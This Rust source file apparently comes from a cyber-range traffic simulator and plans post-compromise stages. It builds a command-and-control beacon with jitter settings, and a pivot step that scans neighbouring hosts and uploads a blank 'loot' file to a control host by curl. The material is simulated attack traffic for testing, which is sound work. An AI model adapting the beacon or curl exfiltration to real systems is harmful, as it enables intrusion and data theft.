//! What happens when a machine is already taken: callbacks, and attacks from the server itself.

use std::net::IpAddr;

use anyhow::{Result, anyhow};

use super::super::events::Direction;
use super::super::host::Role;
use super::scan::{Limits, command as scan};
use super::{Plan, Stage, single};

pub(super) fn beacon(stage: &Stage<'_>) -> Result<Plan> {
    let server = stage.shared.server()?;
    // From inside, the server calls its control host; from outside, a bot uses the server as one.
    let inside = stage.variant() == "server";
    let (from, to) = if inside { (server, stage.shared.host(Role::Control)?) } else { (stage.attacker(0)?, server) };
    let family = stage.family()?;
    let mut command = from.drive("beacon")?;
    command.arg(to.address(family).to_string()).args(["--channel", stage.settings.text("channel")?]);
    for (flag, setting) in [
        ("--beacons", "beacons"),
        ("--period-ms", "period_ms"),
        ("--jitter-percent", "jitter_percent"),
        ("--task-kb", "task_kb"),
    ] {
        command.args([flag, &stage.number(setting)?.to_string()]);
    }
    command.args(["--seed", &stage.seed.to_string()]);
    let direction = if inside { Direction::Out } else { Direction::In };
    Ok(Plan { direction, ..single(from, to, family, command) })
}

pub(super) fn pivot(stage: &Stage<'_>) -> Result<Plan> {
    let (server, control) = (stage.shared.server()?, stage.shared.host(Role::Control)?);
    let neighbours = stage.shared.hosts.iter().filter(|host| host.role == Role::Neighbour);
    let neighbours: Vec<IpAddr> = neighbours.map(|host| host.address(4)).collect();
    if neighbours.is_empty() {
        return Err(anyhow!("the range has no neighbours to scan"));
    }
    let limits = Limits { ports: stage.number("ports")?, rate: stage.number("rate")?, seconds: 15 };
    let look_around = scan(server, &["-sT"], &limits, &neighbours);

    let loot = stage.shared.blank_file(&format!("loot-{}", stage.seed), stage.number("upload_kb")?)?;
    let scheme = if stage.settings.text("channel")? == "tls" { "https" } else { "http" };
    let mut carry_out = server.command("curl");
    carry_out.args(["-ksS", "--max-time", "12", "--limit-rate", "2M", "-o", "/dev/null", "--data-binary"]);
    carry_out.arg(format!("@{}", loot.display())).arg(format!("{scheme}://{}/upload", control.v4));
    let mut targets = neighbours;
    targets.push(control.address(4));
    Ok(Plan {
        steps: vec![vec![look_around], vec![carry_out]],
        attackers: vec![server.address(4)],
        targets,
        direction: Direction::Out,
        spoofed: false,
    })
}
